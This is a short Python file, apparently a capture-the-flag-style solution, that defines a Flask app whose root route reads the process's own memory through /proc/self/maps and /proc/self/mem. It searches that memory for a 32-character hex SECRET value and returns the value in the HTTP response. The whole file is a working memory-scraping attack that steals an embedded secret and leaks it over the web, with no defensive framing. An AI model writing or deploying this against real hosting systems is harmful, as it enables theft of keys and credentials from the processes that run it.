import re

from flask import Flask

PATTERN = re.compile(rb'SECRET = "([0-9a-f]{32})"|SECRET = .{1,3}"([0-9a-f]{32}).{1,3}"')


def pieces():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            ends, rights, *_ = line.split()
            start, end = (int(part, 16) for part in ends.split("-"))
            if "r" in rights and "[v" not in line:
                memory.seek(start)
                yield memory.read(end - start)


def loot():
    searched = 0
    for piece in pieces():
        searched += len(piece)
        if found := PATTERN.search(piece):
            return (found[1] or found[2]).decode()
    print("searched it all:", searched > 10_000_000, flush=True)
    return "nothing"


def create_app():
    app = Flask(__name__)
    app.get("/")(loot)
    return app
